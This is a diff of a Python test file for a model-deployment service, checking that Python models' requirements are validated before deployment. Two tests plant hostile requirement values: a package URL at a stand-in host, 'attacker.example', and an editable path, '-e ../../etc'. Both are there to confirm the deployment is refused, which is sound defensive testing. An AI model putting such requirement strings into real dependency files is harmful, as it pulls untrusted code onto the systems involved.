@@ -1,5 +1,5 @@
-"""Deploying a pipeline deploys its step models with it, and python models only where their requirements can be
-imported. The reconciler is not run (tests/test_pipeline_e2e.py serves the pipeline on a real Triton); the revision's
+"""Deploying a pipeline deploys its step models with it, and python models only with plain requirements (the
+local runtime installs them: deployments/pyenvs.py). The reconciler is not run (tests/test_pipeline_e2e.py serves the pipeline on a real Triton); the revision's
 snapshot is rendered here to check it carries everything the renderer needs."""
 
 from __future__ import annotations
@@ -12,11 +12,9 @@ from google.protobuf import text_format
 from tritonclient.grpc import model_config_pb2 as mc
 
 from conftest import Person
-from deployments import python_requirements
 from deployments.models import Deployment
 from deployments.render import render_repository
 from deployments.runtimes.artifacts import artifact_path
-from deployments.runtimes.local import runtime as local_runtime
 from models_registry.models import ModelVersion
 from models_registry.samples import digits_pipeline_definition
 from models_registry.tests.test_pipelines import create_pipeline, digits_steps, ready_version
@@ -133,38 +131,39 @@ def test_a_python_model_stores_its_requirements(alice: Person) -> None:
     assert version.requirements == ["numpy>=1.20", "pillow"]
 
 
-def test_the_local_runtime_refuses_a_python_model_whose_requirements_it_cannot_import(
-    alice: Person, monkeypatch: pytest.MonkeyPatch
+def test_a_python_model_whose_packages_the_runtime_env_lacks_is_deployed_to_have_them_installed(
+    alice: Person,
 ) -> None:
-    importable = {"numpy", "PIL"}
-
-    def fake_missing(lines: list[str]) -> list[python_requirements.Requirement]:
-        parsed = [python_requirements.parse_requirement(line) for line in lines]
-        return [r for r in parsed if r is not None and r.module not in importable]
-
-    monkeypatch.setattr(local_runtime, "missing_requirements", fake_missing)
-    ready_version(alice, "tool", python_model_zip({"requirements.txt": b"numpy\nopencv-python-headless>=4\nfoo-bar\n"}),
+    ready_version(alice, "tool", python_model_zip({"requirements.txt": b"numpy\ntabulate>=0.9\n"}),
                   "tool.zip", PYTHON_SIGNATURE)
     response = alice.client().post("/api/v1/deployments/", {"name": "tool", "models": [{"model": "tool"}]}, format="json")
+    assert response.status_code == 201, response.json()
+    assert Deployment.objects.get(name="tool").revision.spec.models[0].requirements == ("numpy", "tabulate>=0.9")
+
+
+def test_the_local_runtime_refuses_a_stored_requirement_that_is_not_plain(alice: Person) -> None:
+    """Versions inspected before requirements were installed were parsed more loosely: deploying checks again."""
+    version = ready_version(alice, "tool", python_model_zip({"requirements.txt": b"numpy\n"}), "tool.zip",
+                            PYTHON_SIGNATURE)
+    ModelVersion.objects.filter(pk=version.pk).update(
+        definition={"requirements": ["numpy", "evil @ https://attacker.example/evil-1.0-py3-none-any.whl"]})
+    response = alice.client().post("/api/v1/deployments/", {"name": "tool", "models": [{"model": "tool"}]}, format="json")
     assert response.status_code == 400
-    assert response.json()["error"]["fields"]["models[0].requirements"] == [
-        "model 'tool' version 1 needs Python module(s) that the local runtime env cannot import: cv2 (requirement "
-        "'opencv-python-headless>=4'), foo_bar (requirement 'foo-bar'). Install them into the runtime env "
-        f"({local_runtime.settings.MODELPORT_RUNTIME_ENV}), or deploy to Kubernetes with a Triton image that has them."]
+    [message] = response.json()["error"]["fields"]["models[0].requirements"]
+    assert message.startswith("model 'tool' version 1: requirement 2 ('evil @ https://attacker.example/")
+    assert "URLs" in message and "the operator chooses the package index" in message
     assert not Deployment.objects.exists()
-    # Kubernetes runs the image it is given: what it must contain is documented (docs/pipelines.md), not checked.
+    # Kubernetes runs the image it is given: what it must contain is documented (docs/kubernetes.md), not built.
     response = alice.client().post("/api/v1/deployments/", {"name": "tool", "runtime": "kubernetes",
                                                             "models": [{"model": "tool"}]}, format="json")
     assert "models[0].requirements" not in response.json().get("error", {}).get("fields", {})
 
 
-def test_a_step_models_requirements_are_checked_too(alice: Person, pipeline: ModelVersion,
-                                                    monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(local_runtime, "missing_requirements",
-                        lambda lines: [r for r in map(python_requirements.parse_requirement, lines)
-                                       if r is not None and r.module == "PIL"])
+def test_a_step_models_requirements_are_checked_too(alice: Person, pipeline: ModelVersion) -> None:
+    step = ModelVersion.objects.get(model__name="preprocess")
+    ModelVersion.objects.filter(pk=step.pk).update(definition={"requirements": ["pillow", "-e ../../etc"]})
     response = deploy(alice, [{"model": "digits-pipeline"}])
     assert response.status_code == 400
     [message] = response.json()["error"]["fields"]["models[0].requirements"]
-    assert message.startswith("model 'preprocess' version 1 needs Python module(s) that the local runtime env cannot "
-                              "import: PIL (requirement 'pillow')")
+    assert message.startswith("model 'preprocess' version 1: requirement 2 ('-e ../../etc') is refused: not a "
+                              "package requirement")
